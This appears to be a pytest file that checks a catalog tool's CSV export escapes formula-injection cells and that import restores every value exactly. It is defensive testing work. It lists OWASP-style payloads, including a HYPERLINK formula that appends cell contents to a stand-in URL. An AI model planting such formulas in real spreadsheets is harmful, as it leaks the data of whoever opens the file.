"""CSV cells never become live spreadsheet formulas, and every value comes back exactly.

The escape (core.catalog.csv_safety): a cell starting with = + - @ tab or CR, or with ' followed
by one of those or by another ', gets one more leading '; import removes exactly one leading '
when a trigger character or ' follows it.
"""

from __future__ import annotations

import csv
import itertools
import json
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from core.catalog import CatalogStore
from core.catalog.csv_safety import FORMULA_TRIGGERS, escape_cell, number_cell, unescape_cell
from core.catalog.export import export_catalog
from core.catalog.importer import import_file
from core.cli import main
from tests.raw_sql import run_sql

# OWASP's payloads, and values that look escaped already.
PAYLOADS = [
    '=HYPERLINK("http://x"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=1",
    "''",
]
EXPECTED_CELL = {
    '=HYPERLINK("http://x"&A1,"click")': '\'=HYPERLINK("http://x"&A1,"click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=1": "''=1",
    "''": "'''",
}


def _safe(cell: str) -> bool:
    """What a spreadsheet will not run: a cell not starting with a trigger character."""
    return not cell or cell[0] not in FORMULA_TRIGGERS


def test_escape_is_exactly_reversible_and_always_safe() -> None:
    alphabet = ["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " "]
    for size in range(5):
        for chars in itertools.product(alphabet, repeat=size):
            value = "".join(chars)
            cell = escape_cell(value)
            assert _safe(cell), repr(value)
            assert unescape_cell(cell) == value, repr(value)
    for payload, cell in EXPECTED_CELL.items():
        assert escape_cell(payload) == cell
    for plain in ("", "'", "'a", "a=1", "Lamp", " =1"):
        assert escape_cell(plain) == plain  # nothing to neutralise: left as it is


def test_numbers_stay_numbers_unless_they_are_not_finite() -> None:
    assert number_cell(-500) == "-500"
    assert number_cell(Decimal("-1.50")) == "-1.50"
    assert number_cell(-1e-05) == "-1e-05"
    assert number_cell(Decimal("-Infinity")) == "'-Infinity"
    assert number_cell(float("nan")) == "nan"


@pytest.fixture
def store(db_url: str) -> Iterator[CatalogStore]:
    store = CatalogStore.open(db_url)
    yield store
    store.close()


def _hostile_rows() -> list[dict[str, Any]]:
    """One product per payload: in the id, the name and the description where those allow it
    (no tab or CR there: core.domain.text), always in the free-text category."""
    rows = []
    for number, payload in enumerate(PAYLOADS, start=1):
        one_line = "\t" not in payload and "\r" not in payload
        rows.append(
            {
                "id": payload if one_line else f"p{number}",
                "name": payload if one_line else f"Product {number}",
                "description": payload if "\r" not in payload else f"about {number}",
                "category": payload,
                "base_price_cents": 100 * number,
                "sell_status": "available",
            }
        )
    return rows


def _insert(url: str, rows: list[dict[str, Any]]) -> None:
    for row in rows:
        columns = ", ".join(row)
        run_sql(
            url,
            f"INSERT INTO products ({columns}) VALUES ({', '.join(':' + c for c in row)})",
            params=row,
        )


def _products(store: CatalogStore) -> dict[str, dict[str, Any]]:
    keys = ("id", "name", "description", "category", "base_price_cents")
    return {r.id: {k: r.product[k] for k in keys} for r in store.list_records()}


def test_owasp_payloads_export_neutralised_and_import_back_exactly(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    CatalogStore.open(db_url).close()
    rows = _hostile_rows()
    _insert(db_url, rows)
    exported = tmp_path / "catalog.csv"
    assert main(["export", str(exported), "--db", db_url]) == 0

    with exported.open(newline="", encoding="utf-8") as fh:
        cells = list(csv.reader(fh))
    header = cells[0]
    assert all(_safe(cell) for line in cells for cell in line)
    by_category = {line[header.index("category")]: line for line in cells[1:]}
    for payload in PAYLOADS:
        line = by_category[EXPECTED_CELL[payload]]  # each payload's cell, escaped as specified
        if "\t" not in payload and "\r" not in payload:
            assert line[header.index("name")] == EXPECTED_CELL[payload]
            assert line[header.index("id")] == EXPECTED_CELL[payload]

    # Into the same catalog: every row is unchanged.
    assert main(["import", str(exported), "--db", db_url, "--json"]) == 0
    report = json.loads(capsys.readouterr().out.split("\n", 1)[1])
    assert report["products"] == {"inserted": 0, "updated": 0, "unchanged": len(PAYLOADS)}

    # Into a fresh catalog: every value comes back exactly, not one ' more or less.
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert main(["import", str(exported), "--db", fresh]) == 0
    want = {r["id"]: {k: v for k, v in r.items() if k != "sell_status"} for r in rows}
    for url in (db_url, fresh):
        store = CatalogStore.open(url)
        try:
            assert _products(store) == want
        finally:
            store.close()


def test_a_leading_tab_or_cr_survives_import_instead_of_being_stripped(
    store: CatalogStore, tmp_path: Path
) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "id,name,sell_status,category,description\r\n"
        'lamp,Lamp,available,"\t=1+1","\t=1+1\nsecond line\r\nthird\u2028same cell"\r\n'
        'kit, Kit ,available,"\r=1+1",\r\n',
        encoding="utf-8",
        newline="",
    )
    assert import_file(store, path).products.inserted == 2
    products = _products(store)
    assert products["lamp"]["category"] == "\t=1+1"
    assert products["lamp"]["description"] == "\t=1+1\nsecond line\r\nthird\u2028same cell"
    assert products["kit"]["category"] == "\r=1+1"
    assert products["kit"]["name"] == "Kit"  # spaces around text are a hand-typed file's padding
    assert products["kit"]["description"] is None

    exported = tmp_path / "out.csv"
    export_catalog(store, exported)
    assert import_file(store, exported).products.unchanged == 2


def test_json_export_and_import_keep_leading_tabs_and_line_breaks(
    store: CatalogStore, tmp_path: Path
) -> None:
    path = tmp_path / "hand.json"
    product = {
        "id": "lamp",
        "name": "Lamp",
        "sell_status": "available",
        "description": "\t=1+1\n",
        "category": "\r=1+1",
    }
    path.write_text(json.dumps({"products": [product]}))
    import_file(store, path)
    assert _products(store)["lamp"]["description"] == "\t=1+1\n"
    assert _products(store)["lamp"]["category"] == "\r=1+1"
    exported = tmp_path / "out.json"
    export_catalog(store, exported)
    assert import_file(store, exported).products.unchanged == 1


SHOP_TABLE = (
    "CREATE TABLE products (id TEXT PRIMARY KEY, name TEXT NOT NULL, "
    "base_price_cents INTEGER, sell_status TEXT NOT NULL, category TEXT, "
    "price_modifier INTEGER, weight_delta NUMERIC(8, 2))"
)


def test_a_negative_price_modifier_is_a_number_in_the_csv_and_comes_back_as_one(
    db_url: str, tmp_path: Path
) -> None:
    run_sql(
        db_url,
        SHOP_TABLE,
        "INSERT INTO products VALUES ('lamp', 'Lamp', 4500, 'available', '-500', -500, -1.50)",
    )
    store = CatalogStore.open(db_url)
    try:
        exported = tmp_path / "out.csv"
        export_catalog(store, exported)
        with exported.open(newline="") as fh:
            (line,) = csv.DictReader(fh)
        # A number is data: plain, so the spreadsheet reads the number -500 …
        assert (line["price_modifier"], line["weight_delta"]) == ("-500", "-1.50")
        # … while text that starts with "-" is neutralised like any other text.
        assert line["category"] == "'-500"
        assert import_file(store, exported).products.unchanged == 1
        lamp = store.get_record("lamp").product  # type: ignore[union-attr]
        assert lamp["price_modifier"] == -500 and isinstance(lamp["price_modifier"], int)
        assert lamp["weight_delta"] == Decimal("-1.50")
        assert lamp["category"] == "-500"

        # A spreadsheet (or OWASP-minded tool) that quoted the number: the same -500.
        quoted = tmp_path / "quoted.csv"
        quoted.write_text(
            "id,name,sell_status,price_modifier,category\nlamp,Lamp,available,'-700,-500\n"
        )
        assert import_file(store, quoted).products.updated == 1
        lamp = store.get_record("lamp").product  # type: ignore[union-attr]
        assert lamp["price_modifier"] == -700
        assert lamp["category"] == "-500"  # unquoted data is data
    finally:
        store.close()


def test_a_negative_variant_price_modifier_round_trips_through_json(
    store: CatalogStore, tmp_path: Path
) -> None:
    path = tmp_path / "catalog.json"
    path.write_text(
        json.dumps(
            {
                "products": [{"id": "lamp", "name": "Lamp", "sell_status": "available"}],
                "variants": [{"id": "lamp-s", "product_id": "lamp", "price_modifier": "-500"}],
            }
        )
    )
    import_file(store, path)
    exported = tmp_path / "out.json"
    export_catalog(store, exported)
    (variant,) = json.loads(exported.read_text())["variants"]
    assert variant["price_modifier"] == -500
    report = import_file(store, exported)
    assert report.variants.unchanged == 1
    (record,) = store.list_records()
    assert record.variants[0]["price_modifier"] == -500


def test_the_shops_own_column_names_are_neutralised_too(db_url: str, tmp_path: Path) -> None:
    if sa.make_url(db_url).get_backend_name() != "sqlite":
        pytest.skip("one backend is enough for a quoted column name")
    run_sql(
        db_url,
        "CREATE TABLE products (id TEXT PRIMARY KEY, name TEXT NOT NULL, "
        'base_price_cents INTEGER, sell_status TEXT NOT NULL, "=note" TEXT)',
        "INSERT INTO products VALUES ('lamp', 'Lamp', NULL, 'available', '@x')",
    )
    store = CatalogStore.open(db_url)
    try:
        exported = tmp_path / "out.csv"
        export_catalog(store, exported)
        assert exported.read_text().splitlines()[:2] == [
            "id,name,base_price_cents,sell_status,'=note",
            "lamp,Lamp,,available,'@x",
        ]
        assert import_file(store, exported).products.unchanged == 1
    finally:
        store.close()
